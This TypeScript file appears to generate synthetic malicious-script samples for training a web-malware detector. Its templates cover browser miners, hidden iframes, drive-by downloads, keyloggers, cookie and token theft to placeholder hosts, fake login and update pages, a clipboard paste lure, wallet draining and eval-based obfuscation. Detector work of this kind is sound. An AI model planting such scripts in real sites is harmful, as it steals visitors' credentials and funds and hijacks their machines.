// Scripts that mine, mislead visitors or take over pages. Training data for a detector: never run, the hosts do not exist,
// and filler replaces anything harmful.
import type { Family, Variation } from './variation.ts'

export const miner = (name: string, make: Family['make']): Family => ({
  name: `miner: ${name}`,
  label: 'cryptomining',
  make,
})
export const hostile = (name: string, make: Family['make']): Family => ({
  name: `hostile: ${name}`,
  label: 'malware',
  make,
})

export const inPage = (v: Variation, library: string, code: string): string =>
  v.chance(0.5)
    ? `<script src="${library}"></script>\n<script${v.chance(0.3) ? ' type="text/javascript"' : ''}>\n${code}\n</script>`
    : code

const options = (v: Variation): string =>
  v.pick([
    '',
    `,{throttle:0.${v.number(1, 9)}}`,
    `,{threads:${v.number(1, 8)},throttle:0.${v.number(1, 9)},autoThreads:true}`,
    `,'${v.key(6)}',{throttle:0.${v.number(1, 9)}}`,
  ])
const start = (v: Variation, name: string): string =>
  v.pick([
    `${name}.start();`,
    `${name}.start(${v.pick(['CoinHive.FORCE_EXCLUSIVE_TAB', 'window.FORCE_MULTI_TAB'])});`,
    `if(!${name}.isMobile()){${name}.start()}`,
    `if(!${name}.didOptOut(14400)&&!${name}.isMobile())${name}.start();`,
  ])

export const base64 = (text: string): string => Buffer.from(text).toString('base64')
const chunks = (text: string): string =>
  text
    .split('')
    .map((c) => c.charCodeAt(0))
    .join(',')
export const percent = (text: string): string =>
  [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')

/** Code as text that is decoded and run, one of many ways. */
export function hidden(v: Variation, code: string): string {
  return v.pick([
    `eval(atob('${base64(code)}'));`,
    `eval(unescape('${percent(code)}'));`,
    `eval(String.fromCharCode(${chunks(code)}));`,
    `var ${v.id(30)}='${[...code].map((c) => (c.charCodeAt(0) ^ 7).toString(16).padStart(2, '0')).join('')}',${v.id(31)}='';for(var i=0;i<${v.id(30)}.length;i+=2)${v.id(31)}+=String.fromCharCode(parseInt(${v.id(30)}.substr(i,2),16)^7);${v.pick(['eval', 'setTimeout', 'new Function'])}(${v.id(31)})${v.pick(['', ';'])}`,
    `var ${v.id(30)}=[${chunks(code)}];var ${v.id(31)}='';for(var i=0;i<${v.id(30)}.length;i++){${v.id(31)}+=String['fromCharCode'](${v.id(30)}[i]);}window['ev'+'al'](${v.id(31)});`,
    `(new Function(decodeURIComponent('${encodeURIComponent(code).replaceAll("'", '%27')}')))();`,
    code,
  ])
}

export const frame = (v: Variation): string =>
  `<iframe src="${v.address()}" ${v.pick(['width=1 height=1', 'width="0" height="0" frameborder="0"', 'style="display:none"', 'style="visibility:hidden;position:absolute;left:-1000px"', `style='position:absolute;left:-${v.number(500, 3000)}px;top:-${v.number(500, 3000)}px'`])}></iframe>`

export const HOSTILES: readonly Family[] = [
  miner('by a constructor', (v) => {
    const name = v.pick([
      'CoinHive',
      'CoinHive',
      'CryptoLoot',
      'CRLT',
      'deepMiner',
      'Client',
      'CoinImp',
      'ProjectPoi',
      'minero',
    ])
    return inPage(
      v,
      v.address(),
      `${v.pick(['var ', '', 'window.', 'let '])}${v.id(0)} = new ${name}.${v.pick(['Anonymous', 'Anonymous', 'User'])}('${v.key(32)}'${options(v)});\n${start(v, v.id(0))}`,
    )
  }),
  miner('by one call', (v) =>
    inPage(
      v,
      v.address(),
      v.pick([
        `PerfektStart('${v.key(40)}','${v.key(5)}',${v.number(20, 90)});`,
        `startMining("${v.pick(['xmrpool', 'moneroocean', 'supportxmr'])}.example","4${v.key(94)}","",-1);throttleMiner=${v.number(20, 80)};`,
        `deepMiner.Init('${v.key(12)}',{host:'${v.address()}',username:'${v.key(8)}',throttle:0.${v.number(1, 9)}}).start();`,
        `EverythingIsLife('4${v.key(94)}','x',${v.number(20, 90)});`,
      ]),
    ),
  ),
  miner('loaded by a script', (v) =>
    v.pick([
      `var ${v.id(0)}=document.createElement('script');${v.id(0)}.src='${v.address()}${v.pick(['lib/miner.js', 'coin.js', 'm.min.js', 'crypta.js'])}';${v.id(0)}.onload=function(){var ${v.id(1)}=new ${v.pick(['CoinHive', 'CRLT', 'Client'])}.Anonymous('${v.key(32)}',{throttle:0.${v.number(1, 8)}});${v.id(1)}.start()};document.head.appendChild(${v.id(0)});`,
      `jQuery.getScript('${v.address()}',function(){window.miner=new ${v.pick(['CoinHive', 'CryptoLoot', 'deepMiner'])}.Anonymous('${v.key(32)}');miner.start()});`,
    ]),
  ),
  miner(
    'renamed',
    (v) =>
      `_${v.id(0)} = new ${v.pick(['Client', 'Engine', 'Worker1', 'Module9'])}.${v.pick(['Anonymous', 'User'])}('${v.key(64).toLowerCase()}', {throttle: 0.${v.number(1, 9)}, ${v.pick(["c: 'w'", 'ads: 0', "coin: 'xmr'"])}, ${v.pick(['autoThreads: true', 'forceASMJS: false'])}}); _${v.id(0)}.start(); ${v.chance(0.5) ? `_${v.id(0)}.addMiningNotification("Top", "This site is running a JavaScript miner", "#cccccc", 40, "#3d3d3d");` : ''}`,
  ),
  miner(
    'pool with compiled code',
    (v) =>
      `(function(){var ${v.id(0)}=new WebSocket('wss://${v.pick(['pool', 'ws', 'proxy'])}.example.net:${v.number(1000, 9000)}/');var ${v.id(1)}=navigator.hardwareConcurrency||4,${v.id(2)}=[];for(var i=0;i<${v.id(1)};i++){var w=new Worker(URL.createObjectURL(new Blob(["self.onmessage=function(e){importScripts('${v.address()}cryptonight.wasm.js');var job=e.data;for(var n=0;n<1e6;n++){var h=Module._cryptonight_hash(job.blob,n);if(h<job.target)postMessage({job_id:job.job_id,nonce:n,result:h})}}"])));w.onmessage=function(e){${v.id(0)}.send(JSON.stringify({type:'submit',params:e.data}))};${v.id(2)}.push(w)}${v.id(0)}.onopen=function(){${v.id(0)}.send(JSON.stringify({type:'auth',params:{site_key:'${v.key(32)}',user:null}}))};${v.id(0)}.onmessage=function(m){var d=JSON.parse(m.data);if(d.type=='job')${v.id(2)}.forEach(function(w){w.postMessage(d.params)})}})();`,
  ),
  miner(
    'workers that hash',
    (v) =>
      `var ${v.id(0)}=${v.number(1, 8)}||navigator.hardwareConcurrency;async function ${v.id(1)}(){const r=await fetch('${v.address()}${v.pick(['cn.wasm', 'hash.wasm', 'x.wasm'])}');const m=await WebAssembly.instantiate(await r.arrayBuffer(),{env:{}});const s=new WebSocket('wss://'+${v.pick(["'pool.example.org'", "atob('cG9vbC5leGFtcGxlLm9yZw==')"])});let total=0;s.onmessage=e=>{const job=JSON.parse(e.data);let nonce=Math.random()*4294967295>>>0;setInterval(()=>{for(let i=0;i<100;i++){const hash=m.instance.exports.hash(job.blob,nonce++);total++;if(hash<job.target)s.send(JSON.stringify({id:job.job_id,nonce,hash}))}},${v.number(10, 100)})}}for(let i=0;i<${v.id(0)};i++)${v.id(1)}();`,
  ),
  miner(
    'consent skipped',
    (v) =>
      `(function(){var ${v.id(0)}='${v.key(32)}';function ${v.id(1)}(){if(/Android|iPhone|iPad/i.test(navigator.userAgent))return;var s=document.createElement('script');s.src=${v.pick([`'${v.address()}'`, `atob('${base64(v.address())}')`])};s.onload=function(){try{var m=new ${v.pick(['CoinHive', 'CryptoLoot', 'JSECoin', 'Webmine'])}.${v.pick(['Anonymous', 'Token', 'User'])}(${v.id(0)});m.setThrottle(0.${v.number(1, 9)});m.on('found',function(){});m.start()}catch(e){}};document.body.appendChild(s)}if(document.readyState!='loading')${v.id(1)}();else window.addEventListener('load',${v.id(1)})})();`,
  ),
  hostile('frame out of sight', (v) =>
    v.pick([
      hidden(v, `document.write('${frame(v).replaceAll("'", '"')}');`),
      hidden(
        v,
        `var f=document.createElement('iframe');f.src='${v.address()}';f.width=1;f.height=1;f.style.visibility='hidden';document.body.appendChild(f);`,
      ),
      `document.write(unescape('${percent(frame(v))}'));`,
      `document.write('<scr'+'ipt>document.write(unescape("${percent(frame(v))}"))</scr'+'ipt>');`,
    ]),
  ),
  hostile(
    'frame for some visitors',
    (v) =>
      `function ${v.id(0)}(n){var m=document.cookie.match(new RegExp(n+'=([^;]*)'));return m?unescape(m[1]):null}if(!${v.id(0)}('${v.key(5)}')&&navigator.cookieEnabled&&/${v.pick(['MSIE|Trident', 'Windows NT', 'Firefox'])}/.test(navigator.userAgent)){document.cookie='${v.key(5)}=1;expires='+new Date(new Date().getTime()+86400000).toGMTString();${hidden(v, `document.write('${frame(v).replaceAll("'", '"')}');`)}}`,
  ),
  hostile(
    'landing page of a kit',
    (v) =>
      `<html><body><script>var ${v.id(0)}='${percent(`var p=navigator.plugins;for(var i=0;i<p.length;i++){if(p[i].name.indexOf('Flash')!=-1||p[i].name.indexOf('Java')!=-1){document.write('<applet code="${v.key(6)}.class" archive="${v.address()}a.jar"></applet>')}}`)}';var ${v.id(1)}=unescape;eval(${v.id(1)}(${v.id(0)}));</script><object classid="clsid:D27CDB6E-AE6D-11cf-96B8-444553540000"></object></body></html>`,
  ),
  hostile(
    'memory filled',
    (v) =>
      `var ${v.id(0)}=unescape('${'%u9090%u9090'.repeat(v.number(2, 20))}');var ${v.id(1)}=unescape('%u0c0c%u0c0c');while(${v.id(1)}.length<${v.number(1000, 60000)})${v.id(1)}+=${v.id(1)};var ${v.id(2)}=new Array();for(var i=0;i<${v.number(100, 700)};i++)${v.id(2)}[i]=${v.id(1)}+${v.id(0)};document.getElementById('${v.key(4)}').${v.pick(['click()', 'setAttribute("b",1)', 'CreateObject()'])};`,
  ),
  hostile(
    'plug-ins asked for',
    (v) =>
      `var ${v.id(0)}={};function ${v.id(1)}(n){try{return new ActiveXObject(n)}catch(e){return null}}${v.id(0)}.f=${v.id(1)}('ShockwaveFlash.ShockwaveFlash');${v.id(0)}.s=${v.id(1)}('AgControl.AgControl');${v.id(0)}.p=${v.id(1)}('AcroPDF.PDF')||${v.id(1)}('PDF.PdfCtrl');if(${v.id(0)}.f||${v.id(0)}.p){var ${v.id(2)}=document.createElement('iframe');${v.id(2)}.setAttribute('src','${v.address()}?v='+(${v.id(0)}.f?${v.id(0)}.f.GetVariable('$version'):0));${v.id(2)}.style.display='none';document.body.appendChild(${v.id(2)})}`,
  ),
  hostile('program fetched and run', (v) =>
    hidden(
      v,
      `var s=new ActiveXObject('WScript.Shell');var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','${v.address()}${v.key(5)}.exe',false);x.send();if(x.status==200){var a=new ActiveXObject('ADODB.Stream');a.Open();a.Type=1;a.Write(x.ResponseBody);a.SaveToFile(s.ExpandEnvironmentStrings('%TEMP%')+'\\\\${v.key(6)}.exe',2);s.Run('filler')}`,
    ),
  ),
  hostile(
    'sold on from searches',
    (v) =>
      `(function(){var ${v.id(0)}=document.referrer;var ${v.id(1)}=/(google|bing|yahoo|yandex|baidu|duckduckgo)\\./i;if(${v.id(1)}.test(${v.id(0)})&&document.cookie.indexOf('${v.key(4)}')==-1){document.cookie='${v.key(4)}=1; path=/';${hidden(v, v.pick([`window.location.href='${v.address()}?r='+encodeURIComponent(document.referrer);`, `window.location.replace('${v.address()}');`, `top.location='${v.address()}';`, `var s=document.createElement('script');s.src='${v.address()}';document.head.appendChild(s);`]))}}})();`,
  ),
  hostile(
    'sold on from telephones',
    (v) =>
      `var ${v.id(0)}=navigator.userAgent||navigator.vendor||window.opera;if(/(android|bb\\d+|meego).+mobile|avantgo|blackberry|iphone|ipod|iemobile|opera mini|windows phone/i.test(${v.id(0)})){${hidden(v, `setTimeout(function(){window.location="${v.address()}"},${v.number(0, 3000)});`)}}`,
  ),
  hostile('sold on at once', (v) =>
    hidden(
      v,
      v.pick([
        `window.location.href="${v.address()}";`,
        `document.location.replace("${v.address()}");`,
        `self.location="${v.address()}";`,
        `document.write('<meta http-equiv="refresh" content="0;url=${v.address()}">');`,
      ]),
    ),
  ),
  hostile(
    'sold on at a click',
    (v) =>
      `document.addEventListener('click',function ${v.id(0)}(e){var ${v.id(1)}=+localStorage.getItem('${v.key(5)}')||0;if(Date.now()-${v.id(1)}>${v.number(1, 24)}*36e5){localStorage.setItem('${v.key(5)}',Date.now());${hidden(v, `var w=window.open('${v.address()}','_blank');w&&w.blur();window.focus();`)}document.removeEventListener('click',${v.id(0)})}},true);`,
  ),
  hostile('script put in by injection', (v) =>
    hidden(
      v,
      v.pick([
        `var d=document,s=d.createElement('script');s.src='${v.address()}?'+Math.random();d.getElementsByTagName('head')[0].appendChild(s);`,
        `document.write('<script src="${v.address()}"><\\/script>');`,
        `(function(){var a=document.createElement('script');a.type='text/javascript';a.async=true;a.src='${v.address()}?se_referrer='+encodeURIComponent(document.referrer)+'&default_keyword='+encodeURIComponent(document.title);document.head.appendChild(a)})();`,
      ]),
    ),
  ),
  hostile(
    'server decides',
    (v) =>
      `;if(typeof ${v.id(0)}==='undefined'){(function(){var ${v.id(1)}=function(u,c){var x=new XMLHttpRequest();x.onreadystatechange=function(){if(x.readyState==4&&x.status==200)c(x.responseText)};x.open('GET',u,true);x.send(null)};var ${v.id(2)}=document.referrer,h=location.hostname;if(${v.id(2)}&&${v.id(2)}.indexOf(h)===-1&&document.cookie.indexOf('${v.key(4)}')===-1){${v.id(1)}('${v.address()}?id='+Math.random().toString(36).substr(2),function(t){if(t.indexOf('${v.key(4)}')!==-1)${v.pick(['eval(t)', 'window.eval(t)', 'new Function(t)()'])}})}})();var ${v.id(0)}=true;}`,
  ),
  hostile(
    'code from a ledger',
    (v) =>
      `(async function(){const r=await fetch('https://bsc-dataseed.example/',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({jsonrpc:'2.0',method:'eth_call',params:[{to:'0x${v.key(40)}',data:'0x${v.key(8)}'},'latest'],id:1})});const j=await r.json();const h=j.result.slice(130);let s='';for(let i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));${v.pick(['eval(s)', 'eval(atob(s))', 'new Function(s)()'])}})();`,
  ),
  hostile('cookies taken', (v) =>
    v.pick([
      `new Image().src='${v.address()}?c='+document.cookie;`,
      `document.location='${v.address()}?cookie='+document.cookie;`,
      `fetch('${v.address()}?'+btoa(document.cookie),{mode:'no-cors'});`,
      `document.write('<img src="${v.address()}?c='+escape(document.cookie)+'">');`,
      `var x=new XMLHttpRequest();x.open('GET','${v.address()}?k='+encodeURIComponent(document.cookie+'|'+location.href),true);x.send();`,
      `$.get('${v.address()}',{c:document.cookie,u:location.href});`,
    ]),
  ),
  hostile(
    'sessions and tokens taken',
    (v) =>
      `(function(){var ${v.id(0)}={};for(var i=0;i<localStorage.length;i++){var k=localStorage.key(i);${v.id(0)}[k]=localStorage.getItem(k)}${v.id(0)}.c=document.cookie;${v.id(0)}.u=location.href;${v.pick([`navigator.sendBeacon('${v.address()}',JSON.stringify(${v.id(0)}))`, `fetch('${v.address()}',{method:'POST',body:JSON.stringify(${v.id(0)})})`, `new Image().src='${v.address()}?d='+btoa(JSON.stringify(${v.id(0)}))`])}})();`,
  ),
  hostile(
    'keys recorded',
    (v) =>
      `var ${v.id(0)}='';document.${v.pick(['onkeypress=function(e)', 'onkeydown=function(e)'])}{e=e||window.event;${v.id(0)}+=${v.pick(['e.key', 'String.fromCharCode(e.keyCode||e.which)', 'String.fromCharCode(e.charCode)'])}};setInterval(function(){if(${v.id(0)}.length>${v.number(0, 20)}){${v.pick([`new Image().src='${v.address()}?k='+encodeURIComponent(${v.id(0)})`, `fetch('${v.address()}',{method:'POST',body:${v.id(0)}})`, `var x=new XMLHttpRequest();x.open('POST','${v.address()}');x.send(${v.id(0)})`])};${v.id(0)}=''}},${v.number(1, 10) * 500});`,
  ),
  hostile(
    'keys recorded by listener',
    (v) =>
      `(function(d){var b=[];d.addEventListener('${v.pick(['keydown', 'keyup', 'keypress'])}',function(e){b.push({t:Date.now(),k:e.key,f:e.target.name});if(b.length>=${v.number(5, 50)}){${v.pick([`navigator.sendBeacon('${v.address()}',JSON.stringify(b))`, `ws.send(JSON.stringify(b))`, `fetch('${v.address()}',{method:'POST',body:JSON.stringify(b)})`])};b=[]}});var ws=new WebSocket('wss://logs.example.net/');})(document);`,
  ),
  hostile(
    'log-in copied',
    (v) =>
      `<html><body><form id="${v.id(0)}"><input name="email"><input type="password" name="pass"></form><script>document.getElementById('${v.id(0)}').onsubmit=function(e){e.preventDefault();var p=document.querySelector('input[type=password]').value,u=document.querySelector('input[name=email]').value;${v.pick([`fetch('${v.address()}',{method:'POST',body:u+':'+p})`, `$.ajax({url:'${v.address()}',type:'POST',data:{email:u,password:p}})`, `new Image().src='${v.address()}?u='+u+'&p='+p`])};setTimeout(function(){location.href='https://login.example.com/'},1000)};</script></body></html>`,
  ),
  hostile(
    'command to paste',
    (v) =>
      `(function(){var ${v.id(0)}='<div class="overlay"><h2>${v.pick(['Verify you are human', 'Checking your browser', 'Complete these Verification Steps'])}</h2><p>1. Press Windows + R<br>2. Press CTRL + V<br>3. Press Enter</p><button id="${v.key(4)}">I am not a robot</button></div>';document.body.innerHTML=${v.id(0)};document.querySelector('button').addEventListener('click',function(){var t='${v.pick(['powershell -w hidden -c "FILLER"', 'mshta https://filler.example/', 'cmd /c FILLER'])}';${v.pick(['navigator.clipboard.writeText(t)', "var a=document.createElement('textarea');a.value=t;document.body.appendChild(a);a.select();document.execCommand('copy')"])}})})();`,
  ),
  hostile(
    'false update',
    (v) =>
      `window.addEventListener('load',function(){if(document.cookie.indexOf('${v.key(4)}')>-1)return;var ${v.id(0)}=/${v.pick(['Chrome', 'Firefox'])}/.test(navigator.userAgent)?'${v.pick(['Chrome', 'Firefox'])}':'Browser';document.body.innerHTML='<div style="position:fixed;z-index:99999;top:0;left:0;width:100%;height:100%;background:#fff"><h1>'+${v.id(0)}+' update required</h1><p>${v.pick(['Your browser is out of date', 'You are using an older version of the browser', 'Critical security update'])}</p><a id="u" href="#">Update ${v.pick(['now', 'your browser'])}</a></div>';document.getElementById('u').onclick=function(){document.cookie='${v.key(4)}=1';window.location='${v.address()}Update${v.key(3)}.${v.pick(['zip', 'exe', 'js', 'apk'])}'}});`,
  ),
  hostile(
    'false warning',
    (v) =>
      `var ${v.id(0)}='${v.pick(['WARNING! Your computer is infected', 'Your iPhone has been locked', 'Virus detected on your device'])}';alert(${v.id(0)}+'\\nCall support now');window.onbeforeunload=function(){return ${v.id(0)}};document.onkeydown=function(e){return false};document.addEventListener('contextmenu',function(e){e.preventDefault()});${v.pick(['setInterval(function(){window.open(location.href)},100)', 'document.documentElement.requestFullscreen()', "for(;;){history.pushState(0,0,'x'+Math.random())}"])};`,
  ),
  hostile(
    'file from text',
    (v) =>
      `(function(){var ${v.id(0)}='${base64(`MZ${v.key(v.number(60, 600))}`)}';var b=atob(${v.id(0)}),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i)${v.pick(['', '^23'])};var l=new Blob([u],{type:'octet/stream'});var n='${v.key(7)}.${v.pick(['iso', 'zip', 'exe', 'img', 'hta'])}';if(window.navigator.msSaveOrOpenBlob){navigator.msSaveOrOpenBlob(l,n)}else{var a=document.createElement('a');a.href=URL.createObjectURL(l);a.download=n;document.body.appendChild(a);a.style='display:none';a.click()}})();`,
  ),
  hostile(
    'notifications for sale',
    (v) =>
      `if('Notification'in window&&Notification.permission!=='granted'){document.body.innerHTML+='<div>Click Allow to ${v.pick(['verify that you are not a robot', 'watch the video', 'continue'])}</div>';Notification.requestPermission(function(p){if(p=='denied'){location.href='${v.address()}'}else{navigator.serviceWorker.register('/sw.js');location.replace('${v.address()}?s='+p)}})}`,
  ),
  hostile(
    'wallet drained',
    (v) =>
      `async function ${v.id(0)}(){const a=await window.ethereum.request({method:'eth_requestAccounts'});const b=await ethereum.request({method:'eth_getBalance',params:[a[0],'latest']});await ethereum.request({method:'eth_sendTransaction',params:[{from:a[0],to:'0x${v.key(40)}',value:b}]});fetch('${v.address()}',{method:'POST',body:JSON.stringify({a:a[0],b})})}document.querySelectorAll('${v.pick(['button', '.connect', '#claim'])}').forEach(e=>e.onclick=${v.id(0)});`,
  ),
  hostile(
    'addresses swapped',
    (v) =>
      `document.addEventListener('copy',function(e){var s=window.getSelection().toString();if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(s)||/^0x[a-fA-F0-9]{40}$/.test(s)){e.clipboardData.setData('text/plain','0x${v.key(40)}');e.preventDefault()}});`,
  ),
  hostile('code in pieces', (v) => {
    const code = v.pick([
      `document.write('${frame(v).replaceAll("'", '"')}')`,
      `location.href='${v.address()}'`,
      `var s=document.createElement('script');s.src='${v.address()}';document.body.appendChild(s)`,
    ])
    const size = v.number(3, 9)
    const parts = code.match(new RegExp(`.{1,${size}}`, 'gu')) ?? []
    const order = parts.map((_, i) => i).toSorted(() => v.random() - 0.5)
    return `${order.map((i) => `var ${v.id(0)}${i}=${JSON.stringify(parts[i])};`).join('')}${v.pick(['eval', 'window["eval"]', 'execScript||eval'])}(${parts.map((_, i) => `${v.id(0)}${i}`).join('+')});`.replace(
      'execScript||eval(',
      '(window.execScript||eval)(',
    )
  }),
  hostile('code replaced and run', (v) => {
    const code = v.pick([
      `document.write('${frame(v).replaceAll("'", '"')}')`,
      `window.location='${v.address()}'`,
    ])
    const junk = v.key(3)
    return `var ${v.id(0)}=${JSON.stringify([...code].join(junk))};${v.pick(['eval', 'this["eval"]'])}(${v.id(0)}.${v.pick([`replace(/${junk}/g,'')`, `split('${junk}').join('')`])});`
  }),
]
